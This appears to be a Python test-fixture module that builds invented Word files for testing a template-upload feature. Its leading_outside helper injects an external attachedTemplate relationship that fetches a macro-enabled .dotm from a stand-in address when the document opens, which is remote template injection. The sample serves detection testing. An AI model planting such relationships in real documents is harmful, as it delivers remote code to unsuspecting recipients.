"""Word files that somebody might upload as a template: honest, mistaken, hostile. All invented."""

from __future__ import annotations

import io
import zipfile

from docx import Document


def word_file(*lines: str, footer: str = "", author: str = "") -> bytes:
    """Return a Word file with a paragraph a line."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if footer:
        document.sections[0].footer.paragraphs[0].text = footer
    document.core_properties.author = author
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    """Return the same file with one part more, or another content of a part."""
    old, buffer = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
        new.writestr(name, data)
    return buffer.getvalue()


def leading_outside(content: bytes) -> bytes:
    """Return the same file asking for a template on another machine when it is opened."""
    relations = zipfile.ZipFile(io.BytesIO(content)).read("word/_rels/document.xml.rels").decode()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    away = f'<Relationship Id="rId999" Type="{kind}" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>'
    return with_part(
        content,
        "word/_rels/document.xml.rels",
        relations.replace("</Relationships>", f"{away}</Relationships>").encode(),
    )
